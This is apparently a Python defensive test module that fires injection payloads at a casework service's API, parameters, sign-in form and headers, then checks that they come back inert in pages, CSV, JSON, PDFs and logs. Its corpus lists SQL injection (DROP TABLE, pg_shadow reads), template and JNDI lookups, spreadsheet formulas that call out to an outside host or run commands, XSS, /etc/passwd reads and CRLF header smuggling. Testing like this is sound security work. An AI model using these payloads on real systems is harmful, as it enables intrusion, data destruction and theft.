"""Scenario 22: text that some later reader could take for a command: SQL, templates, formulas, markup, line ends.

It is words everywhere: kept to the letter, and without effect in the database, a spreadsheet, a page, a PDF, a header
or a log.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
from collections.abc import Iterator, Mapping
from itertools import cycle
from typing import Any
from urllib.parse import quote

import pikepdf
import requests

from tests.attacks import by_sqlmap
from tests.attacks.inert import cell_faults, page_faults, pdf_faults
from tests.attacks.outcome import Attack, Effort, Line, Report, Size
from tests.attacks.target import CASEWORK, HUB_SIDE, PROCESSES, Target
from tests.attacks.tools import program
from tests.support.records import example

EVERYTHING = "authority, everything"
MARK = "Zq9inj"
"""In every text that is sent, so that it is found wherever it turns up."""
SQL = (
    "' OR '1'='1", "'; CREATE TABLE public.zq9inj (x int); --", "1; DROP TABLE casework.submission; --",
    "' UNION SELECT usename, passwd, null FROM pg_shadow --", "'||(SELECT version())||'", "$$; SELECT 1; $$", "\\'; --",
    "%27%20OR%201=1", "E08000007' AND pg_sleep(0) IS NULL --", "{authority}", "null", "0x27",
)  # fmt: skip
FORMATS = (
    "{0.__class__.__mro__}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "%s%s%s%n",
    "<%= 7*7 %>",
    "${jndi:ldap://wise.example/a}",
)
FORMULAS = (
    '=HYPERLINK("http://wise.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "=1+1",
)
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "]]><!--",
    '#read("/etc/passwd")', '#link("http://wise.example/")[x]', '#image("/etc/passwd")', "*bold* _it_ $x^2$ `raw` @ref",
    "<iframe src='file:///etc/passwd'></iframe>", "\\include{/etc/passwd}", "javascript:alert(1)",
)  # fmt: skip
LINES = (
    'one\r\nX-Injected: 1\r\n\r\n{"event": "forged"}',
    'one\n{"event": "forged", "level": "info"}',
    "one\u2028two\u2029",
)
CORPUS = (*SQL, *FORMATS, *FORMULAS, *MARKUP, *LINES)
REQUEST_ID = re.compile(r"[A-Za-z0-9-]{8,64}")
TOLD_BY_A_DATABASE = re.compile(r"syntax error|psycopg|sqlstate|traceback|pg_catalog|relation \"", re.IGNORECASE)


def run(target: Target, effort: Effort) -> Report:
    """As words of a record, then in every parameter and member; at last by sqlmap, where it is at hand."""
    report, before = Report("injection"), _tables(target)
    report.lines += [*_as_words(target), *_as_parameters(target), *_as_members(target, effort), *_in_heads(target)]
    if effort.size is Size.FULL:
        report.lines += list(_by_sqlmap(target, report))
    left = Line("the database afterwards", f"{len(before)} tables", 0)
    left.wrong = "" if _tables(target) == before else "has other tables than before"
    report.lines.append(left)
    for name in PROCESSES:
        found = MARK in target.log(name) or "forged" in target.log(name)
        report.lines.append(Line(f"the log of {name}", "read", 0, "holds words of a record" if found else ""))
    return report


def _tables(target: Target) -> list[tuple[Any, ...]]:
    with target.database.as_admin() as connection:
        query = "SELECT schemaname, tablename FROM pg_tables WHERE schemaname <> 'pg_temp' ORDER BY 1, 2"
        return connection.execute(query).fetchall()


def filled(value: Any, texts: Iterator[str]) -> Any:
    """A copy with other words wherever there are several."""
    if isinstance(value, dict):
        return {key: filled(each, texts) for key, each in value.items()}
    if isinstance(value, list):
        return [filled(each, texts) for each in value]
    return f"{next(texts)} {MARK}" if isinstance(value, str) and value.count(" ") > 3 else value


def _as_words(target: Target) -> Iterator[Line]:
    """Records whose every text is from the corpus, as many as it takes; read back in every form there is."""
    texts, sent = cycle(CORPUS), set[str]()
    number = 0
    while len(sent) < len(CORPUS):
        number += 1
        record = filled(
            example("wise", submission_id=f"INJ-{number}", young_person__la_child_id=f"INJ{number:07}"), texts
        )
        sent |= {text for text in CORPUS if json.dumps(text)[1:-1] in json.dumps(record)}
        began = time.monotonic()
        answer = _ask(target, "POST", "/v1/wise-assessments", json=record)
        line = Line(f"record {number} of commands as words", str(answer.status_code), time.monotonic() - began)
        yield line
        if answer.status_code != 201:
            line.wrong = f"words were refused: {answer.text[:300]}"
            return
        yield from _read_back(target, answer.json()["receipt_id"], record)


def _read_back(target: Target, receipt: str, record: Mapping[str, Any]) -> Iterator[Line]:
    reference = Target.wait(lambda: _pack(target, receipt), "a sheet to type from")
    sheet = f"/v1/packs/{reference}/sheet"
    page = _ask(target, "GET", sheet, headers={"Accept": "text/html"})
    yield _judged("the sheet as a page", page, page_faults(page.text))
    cells = list(csv.reader(io.StringIO(_ask(target, "GET", sheet, headers={"Accept": "text/csv"}).text)))
    yield _judged("the sheet as CSV", page, cell_faults(cells))
    words = json.dumps(_ask(target, "GET", sheet, headers={"Accept": "application/json"}).json(), ensure_ascii=False)
    lost = [text for text in _texts(record) if json.dumps(text, ensure_ascii=False)[1:-1] not in words]
    yield _judged(
        "the sheet as JSON", page, [f"{len(lost)} texts are not in it to the letter"] if len(lost) > 6 else []
    )
    document = _ask(target, "GET", f"/v1/packs/{reference}/document")
    with pikepdf.open(io.BytesIO(document.content)) as pdf:
        yield _judged("the document", document, pdf_faults(pdf))


def _pack(target: Target, receipt: str) -> str:
    listed = _ask(target, "GET", "/v1/packs?limit=200").json()["packs"]
    return next((each["reference"] for each in listed if each["receipt_id"] == receipt), "")


def _texts(value: Any) -> Iterator[str]:
    if isinstance(value, dict | list):
        for each in value.values() if isinstance(value, dict) else value:
            yield from _texts(each)
    elif isinstance(value, str) and MARK in value:
        yield value


def _as_parameters(target: Target) -> Iterator[Line]:
    """Every parameter of every address in the published document, path and query."""
    for side, kind in ((CASEWORK, EVERYTHING), (HUB_SIDE, "Hub, everything")):
        paths = requests.get(f"{target.url(side)}/openapi.json", timeout=60).json()["paths"]
        for path, methods in paths.items():
            for parameter in methods.get("get", {}).get("parameters", []):
                if parameter["in"] in ("path", "query"):
                    yield _tried(target, side, kind, path, parameter)


def _tried(target: Target, side: str, kind: str, path: str, parameter: Mapping[str, Any]) -> Line:
    began, statuses, wrong = time.monotonic(), set[int](), set[str]()
    for text in CORPUS:
        value = quote(f"{text}{MARK}", safe="")
        if parameter["in"] == "path":
            address = re.sub(r"{[^}]+}", "x", path.replace("{" + parameter["name"] + "}", value))
        else:
            address = f"{re.sub(r'{[^}]+}', 'x', path)}?{parameter['name']}={value}"
        answer = requests.get(target.url(side) + address, headers=target.headers(kind), timeout=60)
        statuses.add(answer.status_code)
        wrong |= set(_effects(answer))
    where = f"{path} {parameter['in']} {parameter['name']} ({side})"
    return Line(where, ", ".join(map(str, sorted(statuses))), time.monotonic() - began, "; ".join(sorted(wrong)))


def _effects(answer: requests.Response) -> Iterator[str]:
    if answer.status_code >= 500:
        yield f"answered {answer.status_code}"
    if "X-Injected" in answer.headers:
        yield "a header was smuggled in"
    if TOLD_BY_A_DATABASE.search(answer.text):
        yield "the answer has a database's words"
    if answer.status_code >= 400 and MARK in answer.text:
        yield "the answer repeats what was asked"


def _as_members(target: Target, effort: Effort) -> Iterator[Line]:
    """In each string of a record in turn; and for signing in."""
    record = example("wise", submission_id="INJ-MEMBERS")
    places = [place for place in _places(record) if effort.size is Size.FULL or len(place) == 1]
    texts = cycle(CORPUS)
    for place in places:
        began, statuses, wrong = time.monotonic(), set[int](), set[str]()
        for _ in range(len(CORPUS) if effort.size is Size.FULL else 3):
            answer = _ask(target, "POST", "/v1/wise-assessments/validate", json=_put(record, place, next(texts) + MARK))
            statuses.add(answer.status_code)
            wrong |= set(_effects(answer))
        said = ", ".join(map(str, sorted(statuses)))
        yield Line(
            f"/{'/'.join(map(str, place))} of a record", said, time.monotonic() - began, "; ".join(sorted(wrong))
        )
    for name in ("client_id", "client_secret", "scope", "grant_type"):
        yield _signing_in(target, name)


def _signing_in(target: Target, name: str) -> Line:
    began, statuses, wrong = time.monotonic(), set[int](), set[str]()
    for text in CORPUS:
        form = {"grant_type": "client_credentials", "client_id": "wb-x", "client_secret": "x"} | {name: text + MARK}
        answer = requests.post(f"{target.url(CASEWORK)}/oauth/token", data=form, timeout=60)
        statuses.add(answer.status_code)
        wrong |= set(_effects(answer)) | ({"a token was given"} if answer.ok else set())
    said = ", ".join(map(str, sorted(statuses)))
    return Line(f"{name} when signing in", said, time.monotonic() - began, "; ".join(sorted(wrong)))


def _places(value: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, str):
        yield at
    for key, each in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from _places(each, (*at, key))


def _put(record: Any, place: tuple[Any, ...], text: str) -> Any:
    """A copy with this text at that place."""
    copied = json.loads(json.dumps(record))
    found = copied
    for part in place[:-1]:
        found = found[part]
    found[place[-1]] = text
    return copied


def _in_heads(target: Target) -> Iterator[Line]:
    """In headers that are read or given back."""
    for name in ("X-Request-ID", "Authorization", "If-None-Match", "Accept", "Idempotency-Key", "User-Agent"):
        began, statuses, wrong = time.monotonic(), set[int](), set[str]()
        for text in CORPUS:
            value = re.sub(r"[\r\n]", " ", text).strip().encode().decode("latin-1") + MARK
            if name == "X-Request-ID" and REQUEST_ID.fullmatch(value):
                continue  # it is one, and given back on purpose
            answer = requests.get(
                f"{target.url(CASEWORK)}/v1/packs", headers=target.headers(EVERYTHING) | {name: value}, timeout=60
            )
            statuses.add(answer.status_code)
            wrong |= set(_effects(answer)) | ({"given back"} if MARK in str(answer.headers) else set())
        said = ", ".join(map(str, sorted(statuses)))
        yield Line(f"the header {name}", said, time.monotonic() - began, "; ".join(sorted(wrong)))


def _by_sqlmap(target: Target, report: Report) -> Iterator[Line]:
    """Its own corpus and its own judgement."""
    found = program("sqlmap")
    if not found:
        report.remarks.append("sqlmap is not here, so it was not tried. `make attacks` installs it beside the service.")
        return
    yield from by_sqlmap.lines(target, found)


def _ask(
    target: Target, method: str, path: str, headers: Mapping[str, str] | None = None, **more: Any
) -> requests.Response:
    signed = target.headers(EVERYTHING) | dict(headers or {})
    return requests.request(method, target.url(CASEWORK) + path, headers=signed, timeout=60, **more)


def _judged(what: str, answer: requests.Response, faults: list[str]) -> Line:
    wrong = faults if answer.status_code == 200 else [f"answered {answer.status_code}"]
    return Line(what, str(answer.status_code), answer.elapsed.total_seconds(), "; ".join(wrong))


ATTACK = Attack("injection", "Words that something later could take for a command.", run)
